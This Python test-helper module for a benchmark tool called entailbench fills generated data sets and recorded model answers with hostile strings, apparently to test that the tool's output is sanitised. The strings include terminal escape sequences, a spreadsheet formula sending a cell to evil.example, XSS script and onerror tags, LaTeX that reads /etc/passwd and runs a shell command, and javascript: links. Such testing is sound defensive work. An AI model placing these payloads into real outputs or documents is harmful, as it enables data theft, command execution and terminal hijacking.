"""Words of strangers that want to be more than words, and a run in which they stand wherever strangers may write."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from entailbench import LABELS

CONTROLS = (
    "\x1b[2J\x1b[1;1H"  # clears the screen
    "\x1b]0;title\x07"  # the window's title
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"  # a link
    "\x1b]52;c;ZXZpbA==\x07"  # the clipboard
    "\x1bP$q\x1b\\"  # DCS
    "\x9b31m\x9d52;c;ZXZpbA==\x9c"  # the same in C1
    "\r100.0\b\b\x7f\x00"  # writes over what stands there
    "\u202eevil\u202c\u2066x\u2069\u200f\u061c"  # reads backwards
    "\u200b\u2060\ufeff\u2028\u2029\U000e0041"  # not seen
)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
MARKUP = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
LATEX = r"\input{/etc/passwd}\write18{id}%$#&_{}~^"
MARKDOWN = "[x](javascript:alert(1)) ![x](http://evil.example/x.png) `code` | cell | ```"
WORDS = (CONTROLS, FORMULA, MARKUP, LATEX, MARKDOWN)
"""Each harmless somewhere, and not everywhere."""

OBEYED = frozenset(
    chr(code)
    for codes in (range(0x20), range(0x7F, 0xA0), range(0x202A, 0x202F), range(0x2066, 0x2070))
    for code in codes
    if chr(code) not in "\n\t"
) | frozenset("\u061c\u200b\u200e\u200f\u2028\u2029\u2060\ufeff\U000e0041")
"""What no output of ours may hold; written down apart from the code that it checks."""


def obeyed(text: str) -> set[str]:
    """The characters of a text that a terminal would obey."""
    return {character for character in text if character in OBEYED}


def hostile_rows(count: int = 24) -> list[dict[str, Any]]:
    """Rows of a generated data set whose every text is a stranger's."""
    return [
        {
            "id": f"{number}{WORDS[number % len(WORDS)]}",
            "puzzle": f"{number // 2}{WORDS[number % len(WORDS)]}",
            "context": f"Ada is taller than Bo. {WORDS[number % len(WORDS)]}",
            "question": f"Is Ada taller than Bo? {WORDS[(number + 1) % len(WORDS)]}",
            "label": LABELS[number % 2],
            "family": WORDS[number // 2 % len(WORDS)],
            "question_form": WORDS[number // 3 % len(WORDS)],
            "difficulty": FORMULA,
        }
        for number in range(count)
    ]


def write_rows(folder: Path, rows: Sequence[dict[str, Any]]) -> Path:
    """A folder as ``entailbench generate`` writes it, for ``ENTAILBENCH_GENERATED_DIR``."""
    folder.mkdir(parents=True)
    content = "".join(f"{json.dumps(row)}\n" for row in rows).encode()
    (folder / "test.jsonl").write_bytes(content)
    manifest = {"files": {"test.jsonl": {"sha256": hashlib.sha256(content).hexdigest(), "rows": len(rows)}}}
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return folder


def write_models(workspace: Path, rows: int, names: Sequence[str] = ("first", "second")) -> None:
    """``entailbench.toml`` with models whose recorded answers are strangers' words, now and then with a label."""
    tables = []
    for which, name in enumerate(names):
        answers = [f"{WORDS[(number + which) % len(WORDS)]} {LABELS[number % 2]}" for number in range(rows // 2)]
        answers += [WORDS[(number + which) % len(WORDS)] for number in range(rows - len(answers))]
        lines = [json.dumps({"doc_id": number, "answer": answer}) for number, answer in enumerate(answers)]
        (workspace / f"{name}.jsonl").write_text("\n".join(lines), encoding="utf-8")
        tables.append(f'[models.{name}]\nbackend = "replay"\nanswers = "{name}.jsonl"\n')
    (workspace / "entailbench.toml").write_text("\n".join(tables), encoding="utf-8")


def entailbench(workspace: Path, *arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    """The real command line in a process of its own; its output as bytes decoded, nothing translated."""
    done = subprocess.run(
        [sys.executable, "-m", "entailbench", *arguments],
        cwd=workspace,
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "utf-8", **environment},
        timeout=300,
    )
    return subprocess.CompletedProcess(
        done.args, done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    )
